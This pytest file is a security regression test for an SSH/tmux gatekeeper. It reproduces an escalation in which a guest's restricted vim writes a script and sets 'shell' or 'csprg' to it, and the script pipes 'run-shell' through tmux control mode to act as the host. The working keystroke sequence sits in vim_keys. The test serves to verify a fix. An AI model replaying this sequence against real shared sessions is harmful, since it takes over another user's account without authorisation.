"""SECURITY.md §34 end to end: real sshd, real vim, real tmux, keystrokes from a real client.

A guest with a read-only attach to ``shared`` *and* the 0.1 seed editor
(``vim -Z -u DEFAULTS -i NONE --noplugin --``) types::

    :call writefile([...], 'W/x.sh') | :call setfperm(...)
    :set shell=W/x.sh
    :e {a,b}

vim expands the braces through 'shell', so ``x.sh`` runs as the guest; it
runs ``tmux -S SOCK -C attach -t =shared`` and sends ``run-shell``, which runs
as the host (control mode ignores read-only, §27).

CONTROL: the same argv and the same clean environment the 0.1 gatekeeper
exec'd, started by sshd's ForceCommand directly (the gatekeeper has no bypass
switch): a file owned by the host appears. With the new rules ``check``
refuses that policy, and with the editor contained the same keystrokes - and
``csprg`` + ``:cs add`` - spawn nothing, and no file appears outside the
declared ``write`` path, as the host or as the guest.
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
from pathlib import Path

import gksshd
import gktest
import pytest

pytestmark = [pytest.mark.sshd, pytest.mark.tmux, pytest.mark.accounts, pytest.mark.journald]

VIM = ["/usr/bin/vim", "-Z", "-u", "DEFAULTS", "-i", "NONE", "--noplugin", "--"]
#: What plan.environment() builds (SPEC §4), as 0.1 exec'd it.
CLEAN_ENV = "PATH=/usr/bin:/bin HOME=/ LANG=C.UTF-8 TERM=xterm SHELL=/bin/false LESSSECURE=1"


class Stage:
    """A writable project directory for the guest, and a world-writable drop box."""

    def __init__(self, root: Path, guest: gktest.Account) -> None:
        self.project = root / "project"
        self.project.mkdir()
        os.chown(self.project, guest.uid, guest.gid)
        self.notes = self.project / "notes.txt"
        self.notes.write_text("notes\n")
        os.chown(self.notes, guest.uid, guest.gid)
        self.drop = root / "drop"
        self.drop.mkdir()
        self.drop.chmod(0o1777)
        self.script = self.project / "x.sh"

    def files(self, directory: Path) -> list[str]:
        return sorted(p.name for p in directory.iterdir())


def vim_keys(term, pane: str, stage: Stage, socket: str) -> None:
    """The attack of §34, typed into vim; ends with a marker write once all ran."""
    lines = [
        "#!/bin/sh",
        f"id -u >> {stage.drop}/guest_ran",
        (
            f"printf 'run-shell \"id -u >> {stage.drop}/pwned\"\\n' | "
            f"/usr/bin/tmux -S {socket} -C attach -t =shared"
        ),
    ]
    commands = [
        f":call writefile({json.dumps(lines)}, '{stage.script}')",
        f":call setfperm('{stage.script}', 'rwxr-xr-x')",
        f":set shell={stage.script}",
        ":e {a,b}",
        f":w! {stage.drop}/evil",
        f":set csprg={stage.script}",
        f":cs add {stage.notes}",
        f":call writefile(['done'], '{stage.project}/done')",
    ]
    for command in commands:
        term.tmux.cmd("send-keys", "-t", pane, "Escape")
        term.tmux.cmd("send-keys", "-t", pane, "-l", command)
        term.tmux.cmd("send-keys", "-t", pane, "Enter")


def policy_01(deployment, journal, stage: Stage, *, contained: bool) -> str:
    guest = deployment.accounts.guest.name
    extra = f'sandbox = true\nwrite = ["{stage.project}"]\n' if contained else ""
    return f"""version = 1
[audit]
journal_socket = "{journal.socket}"
[sessions.shared]
socket = "{deployment.host.socket}"
owner = "{deployment.accounts.host.name}"
target = "shared"
[programs.editor]
argv = {json.dumps([*VIM, str(stage.notes)])}
{extra}
[[grant]]
users = ["{guest}"]
session = "shared"
mode = "read-only"
default = true
[[grant]]
users = ["{guest}"]
program = "editor"
"""


@pytest.fixture
def stage(deployment) -> Stage:
    root = deployment.site.root / f"stage-{os.urandom(3).hex()}"
    root.mkdir(mode=0o755)
    return Stage(root, deployment.accounts.guest)


def guest_files_outside(guest: gktest.Account, allowed: Path, since: Path) -> list[str]:
    """Files owned by the guest under /tmp, newer than ``since``, outside ``allowed``."""
    found = subprocess.run(
        ["find", "/tmp", "-xdev", "-user", str(guest.uid), "-newer", str(since), "-print"],
        capture_output=True,
        text=True,
        check=False,
    ).stdout.split()
    # sshd itself writes /tmp/sshauth.* as the guest (ExposeAuthInfo), before any program.
    return sorted(
        p for p in found if not p.startswith((f"{allowed}/", "/tmp/sshauth.")) and p != str(allowed)
    )


def test_control_the_01_editor_gives_the_host_account(deployment, term, stage) -> None:
    guest = deployment.accounts.guest
    command = f"env -i {CLEAN_ENV} {shlex.join([*VIM, str(stage.notes)])}"
    sshd = deployment.site.start(
        f"control01-{stage.project.parent.name}",
        f"Match User {guest.name}\n    ForceCommand {command}\n    DisableForwarding yes\n",
    )
    try:
        pane = term.run(sshd.ssh_argv(deployment.keys["guest"], guest.name, "-tt"))
        term.tmux.wait_screen(pane, "notes", timeout=30)
        vim_keys(term, pane, stage, deployment.host.socket)
        gktest.wait_until((stage.drop / "pwned").exists, 30, "run-shell as the host")
        pwned = stage.drop / "pwned"
        gktest.wait_until(lambda: pwned.read_text().strip() or None, 10, "run-shell output")
        assert pwned.stat().st_uid == deployment.accounts.host.uid
        # Appended to by each run ('shell' + braces, and csprg if it got that far).
        assert set(pwned.read_text().split()) == {str(deployment.accounts.host.uid)}
        assert set((stage.drop / "guest_ran").read_text().split()) == {str(guest.uid)}
        assert "evil" in stage.files(stage.drop)
    finally:
        sshd.stop()


def test_check_refuses_the_01_policy(deployment, journal, stage) -> None:
    path = gktest.write_root_file(
        stage.project.parent / "policy01.toml",
        policy_01(deployment, journal, stage, contained=False),
    )
    result = subprocess.run(
        [str(gktest.GATEKEEPERCTL), "check", "--no-cache", str(path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 1
    guest = deployment.accounts.guest.name
    assert (
        f"{path}: error: grant[1]: program 'editor' is not contained, but grant[0] lets the "
        f"same account attach to session 'shared' (both name user '{guest}'): a process the "
        "guest controls can drive the session through tmux control mode as its owner, "
        "read-only or not; give the program its own guest account that cannot attach, or "
        "set programs.editor.sandbox = true"
    ) in result.stdout.splitlines()


def test_the_contained_editor_spawns_nothing(deployment, journal, term, stage) -> None:
    guest = deployment.accounts.guest
    path = gktest.write_root_file(
        stage.project.parent / "policy.toml", policy_01(deployment, journal, stage, contained=True)
    )
    checked = subprocess.run(
        [str(gktest.GATEKEEPERCTL), "check", "--no-cache", str(path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert checked.returncode == 0, checked.stdout
    since = stage.project.parent / "since"
    since.write_text("")
    sshd = deployment.site.start(f"contained-{stage.project.parent.name}", gksshd.sshd_config(path))
    try:
        pane = term.run(
            sshd.ssh_argv(deployment.keys["guest"], guest.name, "-tt", command=("run", "editor"))
        )
        term.tmux.wait_screen(pane, "notes", timeout=30)
        vim_keys(term, pane, stage, deployment.host.socket)
        gktest.wait_until((stage.project / "done").exists, 30, "the marker write")
        # Every keystroke before the marker has been handled: nothing ran, nothing escaped.
        assert stage.files(stage.drop) == []
        assert stage.script.exists()  # writing inside `write` works
        assert guest_files_outside(guest, stage.project, since) == []
        records = journal.records(f"GATEKEEPER_USER={guest.name}")
        record = json.loads(records[-1]["MESSAGE"])
        assert (record["decision"], record["program"], record["contained"]) == (
            "allow",
            "editor",
            True,
        )
        term.tmux.cmd("send-keys", "-t", pane, "Escape")
        term.tmux.cmd("send-keys", "-t", pane, "-l", ":qa!")
        term.tmux.cmd("send-keys", "-t", pane, "Enter")
        assert term.exit_status(pane) == 0
    finally:
        sshd.stop()
